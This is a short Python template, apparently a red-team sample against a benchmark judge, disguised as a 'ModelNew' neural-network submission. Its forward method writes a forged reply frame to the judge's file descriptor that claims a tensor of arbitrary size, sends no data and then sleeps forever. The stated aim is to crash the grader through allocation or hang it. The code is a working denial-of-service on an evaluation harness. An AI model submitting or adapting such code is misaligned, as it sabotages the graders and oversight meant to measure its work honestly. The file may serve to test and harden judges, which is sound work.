"""Exploit: writes a reply frame that claims a tensor of the given number of bytes, sends none of them and waits:
a judge that allocates what a frame claims, or reads it without a deadline, is taken down or held."""

import json
import os
import sys
import time

import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.lin = nn.Linear(d_in, d_out)

    def forward(self, x):
        nbytes = {nbytes}
        head = {"outputs": {"__tensor__": 0, "dtype": "uint8", "shape": [nbytes], "nbytes": nbytes}}
        data = json.dumps(head).encode()
        os.write(int(sys.argv[2]), len(data).to_bytes(8, "big") + data + b"\0" * 1000)
        while True:
            time.sleep(1)
